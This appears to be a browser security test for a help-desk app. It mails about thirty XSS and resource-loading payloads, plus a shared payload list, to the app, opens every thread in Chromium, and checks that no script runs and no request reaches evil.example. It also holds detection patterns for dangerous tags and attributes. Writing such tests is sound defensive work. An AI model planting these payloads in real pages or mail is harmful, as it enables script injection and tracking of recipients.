"""Hostile mail opened in Chromium: nothing in it runs, and nothing is fetched from anywhere but from us."""

import gzip
import json
import re
from collections.abc import Callable, Iterator
from email.message import EmailMessage
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import BrowserContext, Dialog, Page, Request, expect

from tests.cast import PASSWORD
from tests.helpers.data import shared_data
from tests.helpers.polling import until
from tests.helpers.proof import report, sized
from tests.helpers.tamada import RunningTamada

pytestmark = [pytest.mark.browser, pytest.mark.proof]

THREAD = 50
EVIL = "https://evil.example"
# Each sets `__pwned` or asks another host for something, should anything of it work.
OURS = (
    "<script>window.top.__pwned=1</script>",
    f"<script src={EVIL}/a.js></script>",
    "<img src=x onerror=window.top.__pwned=1>",
    "<svg onload=window.top.__pwned=1>",
    "<svg><script>window.top.__pwned=1</script></svg>",
    "<svg><animate onbegin=window.top.__pwned=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=top.__pwned=1&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=top.__pwned=1>'>",
    "<details open ontoggle=window.top.__pwned=1>x</details>",
    "<iframe srcdoc='<script>top.__pwned=1</script>'></iframe>",
    f"<iframe src={EVIL}/frame></iframe>",
    f"<object data={EVIL}/o></object><embed src={EVIL}/e>",
    f"<link rel=stylesheet href={EVIL}/a.css>",
    f"<link rel=prefetch href={EVIL}/p><link rel=dns-prefetch href={EVIL}>",
    f"<style>@import '{EVIL}/b.css';</style>",
    f"<style>body{{background:url({EVIL}/c.png)}}</style>",
    f"<p style=\"background-image:url('{EVIL}/d.png')\">x</p>",
    f'<p style="background:u\\72l({EVIL}/e.png)">x</p>',
    f"<style>@font-face{{font-family:x;src:url({EVIL}/f.woff)}}*{{font-family:x}}</style>",
    f"<img src={EVIL}/pixel.png srcset='{EVIL}/pixel2.png 2x'>",
    f"<picture><source srcset={EVIL}/g.webp><img src=data:,></picture>",
    f"<video src={EVIL}/v.mp4 poster={EVIL}/p.png autoplay></video><audio src={EVIL}/a.mp3 autoplay></audio>",
    f"<meta http-equiv=refresh content='0;url={EVIL}/gone'>",
    f"<base href={EVIL}/><img src=h.png>",
    f"<form action={EVIL}/phish><input name=password autofocus onfocus=top.__pwned=1></form>",
    f"<body background={EVIL}/i.png onload=top.__pwned=1>",
    f"<table background={EVIL}/j.png><td background={EVIL}/k.png>x",
    "<a href='javascript:top.__pwned=1' id=location name=body>click</a>",
    f"<svg><image href={EVIL}/l.png /><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg>#x'/></svg>",
    "{{constructor.constructor('top.__pwned=1')()}}${top.__pwned=1}#{7*7}</title><script>top.__pwned=1</script>",
)


def payloads(count: int) -> list[str]:
    """Our own, and `count` spread evenly over the shared collection where there is one."""
    file = shared_data("security", "xss-payloads.txt.gz")
    lines = gzip.decompress(file.read_bytes()).decode("utf-8", "replace").splitlines() if file else []
    step = max(1, len(lines) // count)
    return [*OURS, *lines[::step]]


def header(payload: str) -> str:
    """What of it can stand in a header: one line."""
    return re.sub(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\s]+", " ", payload).strip()[:900] or "?"


def letters(hostile: list[str]) -> Iterator[bytes]:
    """One mail a payload, which stands in its texts, subject, sender's name and file names; 50 make a thread."""
    for number, payload in enumerate(hostile):
        first = number - number % THREAD
        mail = EmailMessage()
        mail["From"] = f'"{header(payload).translate({34: None, 92: None})[:150]}" <p{first}@evil.example>'
        mail["To"] = "support@help.example"
        mail["Subject"] = header(payload)
        mail["Message-ID"] = f"<{number}@evil.example>"
        mail["Date"] = f"Mon, 02 Mar 2026 {9 + number // 3600:02}:{number // 60 % 60:02}:{number % 60:02} +0000"
        if number != first:
            mail["In-Reply-To"] = mail["References"] = f"<{first}@evil.example>"
        mail.set_content(payload)
        # The table makes the desk show the mail's own formatting, in its frame.
        mail.add_alternative(f"<table><tr><td>cell</td></tr></table>{payload}", subtype="html")
        mail.add_attachment(payload.encode(), maintype="text", subtype="html", filename=f"{header(payload)[:80]}.html")
        yield mail.as_bytes()


def mbox(path: Path, hostile: list[str]) -> Path:
    """All of them in one file."""
    with path.open("wb") as file:
        for raw in letters(hostile):
            lines = raw.replace(b"\r\n", b"\n").split(b"\n")
            file.write(b"From evil@evil.example Mon Mar  2 09:00:00 2026\n")
            file.write(b"\n".join(b">" + line if line.startswith(b"From ") else line for line in lines) + b"\n\n")
    return path


class Watch:
    """Everything a page does that hostile content must not make it do."""

    def __init__(self, page: Page, base: str) -> None:
        self.host = urlsplit(base).netloc
        self.found: list[str] = []
        page.on("dialog", self._asked_aloud)
        page.on("request", self._asked)
        page.on("pageerror", lambda error: self.found.append(f"script error {error}"))
        page.on("popup", lambda popup: self.found.append(f"popup {popup.url}"))
        page.on("download", lambda download: self.found.append(f"download {download.url}"))

    def _asked_aloud(self, dialog: Dialog) -> None:
        self.found.append(f"dialog {dialog.message}")
        dialog.dismiss()

    def _asked(self, request: Request) -> None:
        parts = urlsplit(request.url)
        if parts.scheme in ("http", "https", "ws", "wss", "ftp") and parts.netloc != self.host:
            self.found.append(f"request {request.url}")


# Attributes and elements that could do harm in a frame; `javascript:` behind a link would only wait for a click.
HARM = """root => [...(root ?? document).querySelectorAll('*')].flatMap(node => [
    ...(/^(script|iframe|object|embed|base|form|link|meta|animate|set|use|foreignobject)$/i.test(node.localName)
        && node.closest('body') ? [node.outerHTML.slice(0, 200)] : []),
    ...[...node.attributes].filter(a => /^on/i.test(a.name) || /^\\s*(javascript|vbscript|data:text)/i.test(
        a.value.replace(/[\\x00-\\x20]/g, '')) && /^(href|src|xlink:href|action|formaction|srcdoc)$/i.test(a.name))
        .map(a => node.outerHTML.slice(0, 200)),
])"""

FRAMES_LOADED = """() => {
  const frames = [...document.querySelectorAll('tamada-mailframe')].map(one => one.querySelector('iframe'));
  frames.forEach(frame => { if (frame) frame.loading = 'eager'; });
  return frames.every(frame => frame?.contentDocument?.readyState === 'complete'
    && frame.contentDocument.URL !== 'about:blank') ? frames.length : 0;
}"""


IN_FRAMES = f"""() => [...document.querySelectorAll('tamada-mailframe iframe')].flatMap(
    frame => ({HARM})(frame.contentDocument))"""


def sign_in(page: Page, base: str) -> None:
    page.goto(base + "/login")
    page.get_by_label("E-mail").fill("olga@desk.example")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    expect(page).to_have_url(re.compile("/inbox/mine$"))


def all_items(api: httpx.Client, path: str) -> list[str]:
    """The ids of a whole list of the API."""
    ids: list[str] = []
    cursor = ""
    while True:
        answer = api.get(path, params={"limit": 200, **({"cursor": cursor} if cursor else {})}).json()
        ids += [item["id"] for item in answer["items"]]
        cursor = answer["next"]
        if not cursor:
            return ids


def opened(page: Page, base: str, conversation: str) -> list[str]:
    """Open a thread with all its mail frames; returns the ids of its messages."""
    page.goto(f"{base}/conversations/{conversation}")
    expect(page.locator("tamada-thread article").first).to_be_visible()
    until(lambda: page.evaluate(FRAMES_LOADED), seconds=60, what="the loading of all mail frames", every=0.1)
    assert page.evaluate(FRAMES_LOADED) >= page.locator("article.message").count()
    assert page.evaluate("window.__pwned") is None
    return [
        str(name).removeprefix("message-")
        for name in page.locator("article.message").evaluate_all("all => all.map(one => one.id)")
    ]


@pytest.mark.timeout(sized(400, 3600))
def test_nothing_in_hostile_mail_runs_or_is_fetched(
    running: Callable[..., RunningTamada], new_context: Callable[..., BrowserContext], tmp_path: Path
) -> None:
    hostile = payloads(sized(300, 6613))
    tamada = running()
    tamada.add_user("olga@desk.example", name="Olga", password=PASSWORD)
    tamada.add_inbox("Support", "--email", "support@help.example")
    archive = mbox(tmp_path / "hostile.mbox", hostile)
    done = json.loads(
        tamada.cli("import", "mbox", str(archive), "--inbox", "support@help.example").stdout.splitlines()[-1]
    )
    assert (done["read"], done["messages"] + done["quarantined"]) == (len(hostile), len(hostile))
    assert done["quarantined"] == 0

    page = new_context(locale="en", viewport={"width": 1280, "height": 900}).new_page()
    sign_in(page, tamada.base_url)
    watch = Watch(page, tamada.base_url)
    with tamada.api(tamada.token("olga@desk.example")) as api:
        found = all_items(api, "conversations")
    harm: list[str] = []
    seen = 0
    for conversation in found:
        ids = opened(page, tamada.base_url, conversation)
        seen += len(ids)
        harm += page.evaluate(IN_FRAMES)
        for message in ids[::10]:  # What the frames showed, by itself.
            page.goto(f"{tamada.base_url}/messages/{message}/html", wait_until="load")
            harm += page.evaluate(HARM)
        assert (conversation, watch.found, harm) == (conversation, [], [])
    assert seen == len(hostile)
    for path in (
        "/inbox/open",
        "/customers/",
        "/search?q=alert",
        "/search?q=evil.example&kind=customers",
        "/palette?q=alert",
    ):
        page.goto(tamada.base_url + path)
        assert page.evaluate("window.__pwned") is None
    assert watch.found == []
    report("Hostile mail in Chromium", payloads=len(hostile), threads=len(found), ran=0, fetched=0)


def test_the_same_payloads_do_run_where_nothing_guards_against_them(page: Page) -> None:
    page.route("**/*", lambda route: route.abort())
    watch = Watch(page, "http://127.0.0.1")
    page.set_content("<img src=x onerror=window.top.__pwned=1><a href='javascript:0'>x</a>")
    until(lambda: page.evaluate("window.__pwned"), what="a script of the payload")
    page.set_content(f"<img src={EVIL}/pixel.png>")
    until(lambda: watch.found, what="a request of the payload")
    assert watch.found == [f"request {EVIL}/pixel.png"]
    harmful = "<p onclick=x>x</p><a href=' java\tscript:0'>x</a>"
    page.set_content(harmful)
    assert len(page.evaluate(HARM)) == 2
    page.set_content("<tamada-mailframe><iframe></iframe></tamada-mailframe>")
    page.evaluate("html => { document.querySelector('iframe').contentDocument.body.innerHTML = html; }", harmful)
    assert len(page.evaluate(IN_FRAMES)) == 2
